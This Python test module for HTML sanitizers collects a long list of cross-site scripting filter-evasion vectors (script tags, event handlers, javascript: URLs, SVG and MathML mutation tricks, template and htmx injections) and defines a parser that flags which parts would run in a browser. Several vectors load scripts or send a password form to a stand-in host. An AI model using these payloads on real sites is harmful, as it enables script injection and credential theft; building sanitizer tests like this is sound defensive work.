"""Markup that ran scripts somewhere once: families of tricks against filters and encoders, after OWASP's filter evasion sheet and others.

Every vector says `evil` where a script would run, so a page may hold that word as text only. `eyes` reads a page as a browser does.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

_PLAIN = (
    "<script>evil()</script>",
    "<ScRiPt>evil()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\t\n\r/type=text/javascript>evil()</script\n>",
    "<<script>evil();//<</script>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<script>evil()",
    "</script><script>evil()</script>",
    "<script/xss src=data:,evil()></script>",
    '<script src="evil.js"',
    "<!--><script>evil()</script-->",
    "<!--[if gte IE 4]><script>evil()</script><![endif]-->",
    "<![CDATA[<script>evil()</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:evil()'?>",
    "<xml id=x><i><b><img src='javas<!-- -->cript:evil()'></b></i></xml>",
    "\x00<script>evil()</script>",
    "<scr\x00ipt>evil()</scr\x00ipt>",
    "＜script＞evil()＜/script＞",
    "+ADw-script+AD4-evil()+ADw-/script+AD4-",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "&#60;script&#62;evil()&#60;/script&#62;",
    "%3Cscript%3Eevil()%3C/script%3E",
    "\\x3cscript\\x3eevil()\\x3c/script\\x3e",
    "\\u003cscript\\u003eevil()\\u003c/script\\u003e",
)
_BREAKING_OUT = (
    '"><script>evil()</script>',
    "'><script>evil()</script>",
    "\"'`><img src=x onerror=evil()>",
    '" onmouseover=evil() autofocus onfocus=evil() x="',
    "' onmouseover='evil()",
    "` onmouseover=`evil()",
    '" style="background:url(javascript:evil())',
    '" hx-get="/evil" hx-trigger="load',
    '" data-hx-on:load="evil()',
    "</title><script>evil()</script>",
    "</textarea><script>evil()</script>",
    "</option></select><img src=x onerror=evil()>",
    "</style><script>evil()</script>",
    "</noscript><img src=x onerror=evil()>",
    "</template><img src=x onerror=evil()>",
    "</svg><script>evil()</script>",
    "--><script>evil()</script>",
    "--!><img src=x onerror=evil()>",
    "]]><script>evil()</script>",
    "';evil();//",
    '\\";evil();//',
    "${evil()}",
    "{{evil()}}",
    "{{constructor.constructor('evil()')()}}",
    "{% evil %}{{7*7}}",
    "<%= evil() %>",
    "#{evil()}",
    "\u2028evil()\u2029",
)
_HANDLED = tuple(
    template.format(tag=tag, on=on)
    for tag, on in (
        *(("img src=x", "onerror"), ("image src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe", "onload")),
        *(("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("video src=x", "onerror")),
        *(("audio src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"), ("object data=x", "onerror"), ("p", "onpointerenter")),
        *(("a href=# tabindex=1 autofocus", "onfocus"), ("b style=animation-name:x", "onanimationstart"), ("div contenteditable", "onbeforeinput")),
    )
    for template in ("<{tag} {on}=evil()>", "<{tag}/{on}='evil()'>a", '<{tag}\n{on}\n=\n"&#101;vil()" evil>')
)
_LEADING = tuple(
    template.format(url=url)
    for url in (
        *("javascript:evil()", "JaVaScRiPt:evil()", " javascript:evil()", "\x01javascript:evil()", "java\tscript:evil()", "java\nscript:evil()"),
        *("&#106;avascript:evil()", "&#x6A&#x61vascript&colon;evil()", "javascript&#x3A;evil()", "vbscript:evil()", "data:text/html,<script>evil()</script>"),
        *(
            "data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4#evil",
            "jav&Tab;ascript:evil()",
            "javascript://%0aevil()",
            "blob:evil",
            "feed:javascript:evil()",
        ),
    )
    for template in ('<a href="{url}">a</a>', "<form action=\"{url}\"><button formaction='{url}'>a</button></form>")
)
_STRUCTURE = (
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<iframe src=javascript:evil()></iframe>",
    "<embed src=//evil.example/x.swf>",
    "<object data='javascript:evil()'></object>",
    "<applet code=evil></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:evil()'>",
    "<meta http-equiv=Set-Cookie content='a=evil'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:evil())}</style>",
    "<div style='width:expression(evil())'>a</div>",
    "<div style=\"background-image:url('//evil.example/x')\">a</div>",
    "<p style='position:fixed;inset:0' class=evil id=evil name=evil>a</p>",
    "<svg><script>evil()</script></svg>",
    "<svg><animate onbegin=evil() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:evil()'><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=evil()>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=evil()></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=evil()>'>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=evil()>",
    "<math href='javascript:evil()'>a</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=evil()></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<table><td background='javascript:evil()'>a</td></table>",
    "<table background='javascript:evil()'><tr><td>a</table>",
    "<isindex type=image src=x onerror=evil()>",
    "<frameset onload=evil()><frame src=javascript:evil()></frameset>",
    "<layer src=//evil.example></layer>",
    "<bgsound src='javascript:evil()'>",
    "<template><img src=x onerror=evil()></template>",
    "<select><template shadowrootmode=open><script>evil()</script></template></select>",
    "<xss:script xmlns:xss='x'>evil()</xss:script>",
    "<img src=x:x onerror\x0b=evil()>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<picture><source srcset=//evil.example/a></picture>",
    "<video poster=//evil.example/a><source src=//evil.example/b onerror=evil()></video>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input type=hidden name=csrf_token value=evil>",
    "<button form=x formaction=//evil.example>a</button>",
    "<dialog open onclose=evil()>a</dialog>",
    "<a href='//evil.example' target=_blank>a</a>",
    "<a href='https://evil.example' rel=opener target=_top>a</a>",
    '<a href="x" onclick="evil()" ping=\'//evil.example\'>a</a>',
    "<p hx-get=/evil hx-trigger=load>a</p>",
    "<p hx-on:load=evil() hx-on::after-request='evil()'>a</p>",
    "<p data-hx-get=/evil data-hx-trigger=load data-hx-on-load='evil()'>a</p>",
    "<p hx-vals='js:{a:evil()}' hx-post=/logout hx-trigger='load[evil()]'>a</p>",
    "<script type='text/hyperscript'>on load evil()</script>",
    "<div is=evil-thing slot=x part=y>a</div>",
    "<b <i onclick=evil()>a</b>",
    "<a\x0chref='javascript:evil()'>a</a>",
    "<p>a<plaintext><img src=x onerror=evil()>",
    "<xmp><img src=x onerror=evil()></xmp>",
    "<listing>&lt;img src=x onerror=evil()&gt;</listing>",
    "<b>" * 300 + "<script>evil()</script>",
)
VECTORS = tuple(dict.fromkeys((*_PLAIN, *_BREAKING_OUT, *_HANDLED, *_LEADING, *_STRUCTURE)))

_ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcset", "background", "xlink:href", "ping", "cite", "longdesc"})
_WORDS = frozenset({"value", "title", "alt", "aria-label", "content", "placeholder", "label", "datetime"})
_OURS = re.compile(r"(?:data:,)?/(?!/|\\)|\?|#|https?://|mailto:|tel:|\.\.?/|[\w.-]+(?:/|$)", re.ASCII)
_STRANGE = frozenset(
    {"iframe", "frame", "object", "embed", "applet", "base", "math", "marquee", "style", "image", "bgsound", "layer", "isindex", "foreignobject", "xss:script"}
)


class Eyes(HTMLParser):
    """What a browser would make of a page: `faults` are the parts of a vector that came alive, `text` is what is read."""

    def __init__(self, page: str, frames: bool = False) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text = ""
        self._raw = False
        self._strange = _STRANGE - ({"iframe"} if frames else set())
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._raw = tag in ("script", "style")
        if "evil" in tag or tag in self._strange or (tag == "script" and not dict(attrs).get("src", "").startswith("/static/")):  # type: ignore[union-attr]
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            said = value or ""
            led = name == "href" and said.startswith(("//", "http")) and "noopener" in (dict(attrs).get("rel") or "")  # a link like any other
            if not led and self._lives(name, said):
                self.faults.append(f"<{tag} {name}={said!r}>")

    def _lives(self, name: str, said: str) -> bool:
        if name.startswith("on") or "hx-on" in name or name in ("style", "srcdoc", "is", "ping") or "evil" in name:
            return True
        if name in _ADDRESSES:
            return not _OURS.match(said) or "evil.example" in said.partition("?")[0]
        if name.startswith(("hx-", "data-hx-")):
            return "evil" in said and (name.endswith("-vals") or "evil" in said.partition("?")[0])
        return "evil" in said and name not in _WORDS and not name.startswith(("data-", "aria-"))

    def handle_endtag(self, tag: str) -> None:
        self._raw = False

    def handle_data(self, data: str) -> None:
        if self._raw and "evil" in data:
            self.faults.append(f"script: {data[:80]}")
        self.text += data
